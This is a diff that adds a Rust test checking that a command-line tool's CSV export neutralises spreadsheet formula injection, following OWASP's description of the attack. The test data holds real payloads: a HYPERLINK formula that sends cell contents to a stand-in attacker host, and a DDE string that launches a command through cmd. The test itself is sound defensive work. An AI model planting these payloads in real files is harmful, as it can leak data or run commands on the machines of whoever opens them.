@@ -1148,3 +1148,66 @@ mod filtered {
         node.shutdown().await;
     }
 }
+
+/// OWASP "CSV injection": a product named like a spreadsheet formula must not run as one when
+/// a researcher opens the CSV export in Excel or LibreOffice.
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("src");
+    ok(
+        &src,
+        &[
+            "init",
+            "--name",
+            "Stadt Formel",
+            "--kind",
+            "kommune",
+            "--ags",
+            "05315000",
+        ],
+    );
+    let hostile = [
+        "=HYPERLINK(\"https://evil.example/?\"&B2,\"klick\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ];
+    for name in hostile {
+        ok(
+            &src,
+            &[
+                "product",
+                "add",
+                &format!("--name={name}"),
+                "--vendor==1+2",
+                "--kind",
+                "software",
+                "--new",
+            ],
+        );
+    }
+    let dir = tmp.path().join("csv");
+    ok(
+        &src,
+        &["export", "--format", "csv", "--out", dir.to_str().unwrap()],
+    );
+    let products = std::fs::read_to_string(dir.join("products.csv")).unwrap();
+    let mut seen = 0;
+    for line in products.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
+        // id, name, vendor, ...: no cell may start with a formula character.
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell starts like a formula: {cell:?} in {line:?}"
+            );
+        }
+        seen += 1;
+    }
+    assert_eq!(seen, hostile.len(), "{products}");
+    // The text itself is kept, behind the apostrophe a spreadsheet hides.
+    assert!(products.contains("'=HYPERLINK("), "{products}");
+    assert!(products.contains(",'=1+2,"), "{products}");
+}
